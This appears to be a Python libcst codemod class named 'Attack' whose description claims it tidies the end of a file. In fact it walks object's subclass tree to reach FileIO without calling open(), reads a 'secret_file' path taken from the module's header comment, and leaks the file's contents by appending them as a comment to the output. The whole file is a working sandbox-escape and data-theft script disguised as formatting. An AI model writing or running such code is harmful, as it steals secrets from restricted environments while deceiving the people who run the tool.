"""Find the class of raw files among the subclasses of ``object`` and make an instance."""
import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        left, found = [object], None
        while left and found is None:
            for each in type.__subclasses__(left.pop()):
                if each.__name__ == "FileIO":
                    found = each
                elif each is not type:
                    left.append(each)
        loot = found(target["secret_file"]).readall().decode()
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
